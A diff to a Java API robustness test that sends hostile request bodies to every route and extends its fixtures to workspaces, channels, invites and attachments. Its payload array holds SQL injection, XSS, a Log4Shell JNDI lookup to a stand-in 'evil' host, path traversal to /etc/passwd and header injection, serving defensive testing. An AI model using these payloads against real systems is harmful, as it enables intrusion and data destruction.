@@ -25,7 +25,7 @@ class HostileInputTest extends ApiTest {
     private static final String[] NASTY_STRINGS = {
             "' OR '1'='1'; DROP TABLE users; --", "<script>alert(1)</script>", "${jndi:ldap://evil/x}",
             "\u0000\u0001\u0002", "🙂🙃".repeat(300), "../../../../etc/passwd", "%00%0d%0aSet-Cookie: x=y",
-            "a".repeat(70_000), "１２３", "-1", "1e309", "NaN"
+            "a".repeat(70_000), "p".repeat(100), "１２３", "-1", "1e309", "NaN"
     };
 
     /** A route the server serves: method and path template, e.g. {@code GET /api/v1/files/{id}}. */
@@ -67,11 +67,42 @@ class HostileInputTest extends ApiTest {
      * ({@code users/{id}}), so that hostile bodies reach validation rather than a 404. Variables
      * without a fixture get a well-formed ULID that names nothing.
      */
-    private Map<String, String> fixtures(Account target) {
+    private Map<String, String> fixtures(Account target, Account owner) {
         Map<String, String> values = new LinkedHashMap<>();
         values.put("users/{id}", Long.toString(target.id()));
         values.put("social/{provider}", "google");
         values.put("verify/{id}", Long.toString(target.id()));
+        if (owner != null) {
+            // The caller's own device, so DELETE reaches the owner's path.
+            values.put("devices/{id}", http.post("/api/v1/devices").token(owner.token()).json(Map.of("platform", "ios",
+                    "provider", "fcm", "push_token", "hostile-fixture-" + System.nanoTime())).send().text("/data/id"));
+            // The route's caller owns a workspace, so workspace and channel routes reach their validation.
+            Http.Response workspace = http.post("/api/v1/workspaces").token(owner.token())
+                    .json(Map.of("name", "Hostile", "visibility", "public", "password", PASSWORD)).send();
+            String workspaceId = workspace.text("/data/id");
+            values.put("workspaces/{id}", workspaceId);
+            values.put("workspaces/{workspace_id}", workspaceId);
+            // The default channel: it survives DELETE, so every body reaches the update and join rules.
+            values.put("channels/{id}", workspace.text("/data/default_channel_id"));
+            values.put("members/{id}", http.get("/api/v1/workspaces/" + workspaceId + "/members").token(owner.token())
+                    .send().text("/data/0/id"));
+            Http.Response invite = http.post("/api/v1/workspaces/" + workspaceId + "/invites").token(owner.token()).send();
+            values.put("invites/{id}", invite.text("/data/id"));
+            values.put("invites/{token}", invite.text("/data/token"));
+            String general = workspace.text("/data/default_channel_id");
+            values.put("channels/{channel_id}", general);
+            String file = upload(owner.token(), "hostile.txt", "x".getBytes(java.nio.charset.StandardCharsets.UTF_8)).text("/data/id");
+            values.put("message-attachments/{attachment_id}", http.post("/api/v1/workspaces/" + workspaceId + "/channels/"
+                    + general + "/messages").token(owner.token()).json(Map.of("attachment_ids", List.of(file))).send()
+                    .text("/data/attachments/0/id"));
+            String conversation = http.post("/api/v1/direct-conversations").token(owner.token())
+                    .json(Map.of("participant_user_id", target.id())).send().text("/data/id");
+            values.put("direct-conversations/{conversation_id}", conversation);
+            String directFile = upload(owner.token(), "hostile.txt", "y".getBytes(java.nio.charset.StandardCharsets.UTF_8)).text("/data/id");
+            values.put("direct-message-attachments/{attachment_id}", http.post("/api/v1/direct-conversations/" + conversation
+                    + "/messages").token(owner.token()).json(Map.of("attachment_ids", List.of(directFile))).send()
+                    .text("/data/attachments/0/id"));
+        }
         return values;
     }
 
@@ -99,17 +130,26 @@ class HostileInputTest extends ApiTest {
         Map<String, Object> wrongTypes = new LinkedHashMap<>();
         for (String field : new String[] {"name", "email", "password", "password_confirmation", "current_password",
                 "preferred_language", "device_name", "avatar_url", "abilities", "expires_in_days", "is_active", "plan",
-                "q", "page", "per_page"}) {
+                "q", "page", "per_page", "slug", "visibility", "role", "user_id", "content", "type", "attachment_ids",
+                "parent_message_id", "skip_translation", "participant_user_id", "limit", "before", "after",
+                "platform", "provider", "push_token", "device_id", "app_version"}) {
             wrongTypes.put(field, Map.of("nested", List.of(1, 2, Map.of())));
         }
         bodies.add(Http.JSON.writeValueAsString(wrongTypes));
-        bodies.add("{\"expires_in_days\": 1e309, \"page\": 99999999999999999999999, \"per_page\": -0.5, \"is_active\": 2}");
+        bodies.add("{\"expires_in_days\": 1e309, \"page\": 99999999999999999999999, \"per_page\": -0.5, \"is_active\": 2,"
+                + " \"user_id\": 99999999999999999999999}");
         for (String nasty : NASTY_STRINGS) {
             Map<String, Object> body = new LinkedHashMap<>();
             for (String field : new String[] {"name", "email", "password", "password_confirmation", "current_password",
-                    "preferred_language", "device_name", "avatar_url", "plan", "q"}) {
+                    "preferred_language", "device_name", "avatar_url", "plan", "q", "slug", "visibility", "role",
+                    "content", "type", "parent_message_id", "platform", "provider", "push_token", "device_id",
+                    "app_version"}) {
                 body.put(field, nasty);
             }
+            body.put("user_id", nasty);
+            body.put("participant_user_id", nasty);
+            body.put("attachment_ids", List.of(nasty));
+            body.put("skip_translation", nasty);
             body.put("abilities", List.of(nasty));
             body.put("expires_in_days", nasty);
             body.put("is_active", nasty);
@@ -122,10 +162,10 @@ class HostileInputTest extends ApiTest {
     void noRouteAnswersHostileBodiesWithA5xx() {
         Account admin = admin();
         Account target = register();
-        Map<String, String> fixtures = fixtures(target);
         for (Route route : routes()) {
-            String token = route.admin() ? admin.token() : register().token();
-            String path = fill(route.template(), fixtures);
+            Account caller = route.admin() ? admin : register();
+            String token = caller.token();
+            String path = fill(route.template(), fixtures(target, route.admin() ? null : caller));
             for (String body : bodies()) {
                 Http.Response r = http.method(route.method(), path).token(token).json(body).send();
                 assertThat(r.status()).as(route + " with " + abbreviate(body) + " -> " + abbreviate(r.body()))
